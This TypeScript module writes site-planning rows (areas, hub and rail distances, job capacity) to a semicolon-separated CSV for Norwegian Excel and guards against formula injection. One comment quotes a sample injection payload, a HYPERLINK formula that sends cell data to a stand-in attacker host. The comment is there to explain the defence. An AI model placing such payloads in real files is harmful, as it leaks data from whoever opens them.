// CSV of site rows for a Norwegian Excel: UTF-8 BOM, ';' separator, decimal comma, CRLF, Norwegian headers, formula
// guard.
import { isAvailableLand } from './availability';
import type { SiteRow } from './siteRows';
import { wholeNewJobs } from './capacity';
import type { AbcFit, JobsTodaySource } from './types';

/** Excel reads a file as UTF-8 only when it starts with a byte-order mark; without it "Røyken" becomes "RÃ¸yken". */
export const UTF8_BOM = '\uFEFF';
/** A Norwegian Excel splits columns on ';' because ',' is its decimal mark. */
export const EXCEL_SEPARATOR = ';';
const CRLF = '\r\n';

/**
 * The words for a site's ABC fit (the verdict and its reason), made by the caller (src/i18n/fit.ts): the domain
 * builds no sentences.
 */
export interface FitLabeller {
  verdict: (fit: AbcFit) => string;
  reason: (fit: AbcFit) => string;
}

const SOURCE_NB: Record<JobsTodaySource, string> = {
  data: 'fra data',
  estimate: 'anslag (areal ÷ m² per arbeidsplass i dag)',
  future: 'fremtidig areal',
  unknown: 'ukjent status',
  scenario: 'satt i scenario',
};

function jobsTodaySourceNb(r: SiteRow): string {
  return r.jobsTodaySource === 'data' && r.jobsTodayField
    ? `fra data (${r.jobsTodayField})`
    : SOURCE_NB[r.jobsTodaySource];
}

type Cell = { text: string } | { number: number | null; decimals: number };

interface Column {
  header: string;
  value: (row: SiteRow, fit: FitLabeller) => Cell;
}

const text = (value: string | null | undefined): Cell => ({ text: value ?? '' });
const num = (value: number | null | undefined, decimals: number): Cell => ({ number: value ?? null, decimals });

/**
 * The columns, in order. The figures use the report CLI's rounding (area_m2 and distances 2 decimals, daa 3, jobs
 * whole), so a cell here is the report's value with a comma for the point.
 */
export const EXCEL_COLUMNS: readonly Column[] = [
  { header: 'ID', value: (r) => text(r.id) },
  { header: 'Navn', value: (r) => text(r.name) },
  { header: 'Status', value: (r) => text(r.status) },
  { header: 'ABC-type', value: (r) => text(r.abc) },
  { header: 'Planstatus', value: (r) => text(r.readiness) },
  { header: 'Ledig', value: (r) => text(isAvailableLand(r) ? 'ja' : 'nei') },
  { header: 'Region', value: (r) => text(r.region) },
  { header: 'Areal (m²)', value: (r) => num(r.areaM2, 2) },
  { header: 'Areal (daa)', value: (r) => num(r.areaDaa, 3) },
  { header: 'Nærmeste knutepunkt', value: (r) => text(r.hub?.name) },
  { header: 'Knutepunkttype', value: (r) => text(r.hub?.type) },
  { header: 'Avstand til knutepunkt fra kant (m)', value: (r) => num(r.hub?.distanceM, 2) },
  { header: 'Avstand til knutepunkt fra midtpunkt (m)', value: (r) => num(r.hubCentroidDistanceM, 2) },
  { header: 'Nærmeste togstasjon', value: (r) => text(r.nearestByType.tog?.name) },
  { header: 'Avstand til togstasjon (m)', value: (r) => num(r.nearestByType.tog?.distanceM, 2) },
  { header: 'Kapasitet ferdig utbygd lav', value: (r) => num(Math.round(r.jobs.low), 0) },
  { header: 'Kapasitet ferdig utbygd middels', value: (r) => num(Math.round(r.jobs.mid), 0) },
  { header: 'Kapasitet ferdig utbygd høy', value: (r) => num(Math.round(r.jobs.high), 0) },
  { header: 'Arbeidsplasser i dag', value: (r) => num(r.jobsToday, 0) },
  { header: 'Arbeidsplasser i dag, kilde', value: (r) => text(jobsTodaySourceNb(r)) },
  { header: 'Nye arbeidsplasser lav', value: (r) => num(wholeNewJobs(r.jobs.low, r.jobsToday), 0) },
  { header: 'Nye arbeidsplasser middels', value: (r) => num(wholeNewJobs(r.jobs.mid, r.jobsToday), 0) },
  { header: 'Nye arbeidsplasser høy', value: (r) => num(wholeNewJobs(r.jobs.high, r.jobsToday), 0) },
  { header: 'Ledig fra år', value: (r) => num(r.availableYear, 0) },
  { header: 'Tilgjengelighetsklasse', value: (r) => text(r.fit.access) },
  { header: 'ABC-vurdering', value: (r, fit) => text(fit.verdict(r.fit)) },
  { header: 'Begrunnelse', value: (r, fit) => text(fit.reason(r.fit)) },
  { header: 'Midtpunkt lengdegrad', value: (r) => num(r.centroidLngLat[0], 6) },
  { header: 'Midtpunkt breddegrad', value: (r) => num(r.centroidLngLat[1], 6) },
  // Empty without a road layer the user loaded: no road distance is ever guessed.
  { header: 'Nærmeste hovedvei', value: (r) => text(r.road ? (r.road.label ?? `(${r.road.file})`) : null) },
  { header: 'Avstand til hovedvei (m)', value: (r) => num(r.road?.distanceM, 2) },
];

/** Fixed decimals with a decimal comma and no digit grouping (a grouped "12 345,6" is text to some Excel versions). */
export function decimalComma(value: number, decimals: number): string {
  return value.toFixed(decimals).replace('.', ',');
}

/**
 * Spreadsheets run a cell that starts with = + - @ as a formula (tab and CR can hide such a start). Names come from
 * data files anyone can load, so a name like `=HYPERLINK("http://evil.example/?"&A1;"Klikk")` would send data away,
 * or start a program through DDE, when the file is opened. A leading apostrophe makes Excel and LibreOffice read the
 * cell as text. Only text cells are guarded: our own numbers never start with those characters.
 */
export function guardFormula(value: string): string {
  return /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
}

/** Quotes a field holding the separator, a double quote or a line break, doubling the quotes inside (RFC 4180). */
export function quoteField(value: string): string {
  return /[;"\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

function cellText(cell: Cell): string {
  if ('text' in cell) return quoteField(guardFormula(cell.text));
  return cell.number === null ? '' : decimalComma(cell.number, cell.decimals);
}

/** The whole file: BOM, header, one CRLF-terminated line per row, in the given order; `fit` gives the fit's words. */
export function formatExcelCsv(rows: readonly SiteRow[], fit: FitLabeller): string {
  const lines = [EXCEL_COLUMNS.map((c) => quoteField(c.header)).join(EXCEL_SEPARATOR)];
  for (const row of rows) lines.push(EXCEL_COLUMNS.map((c) => cellText(c.value(row, fit))).join(EXCEL_SEPARATOR));
  return `${UTF8_BOM}${lines.join(CRLF)}${CRLF}`;
}
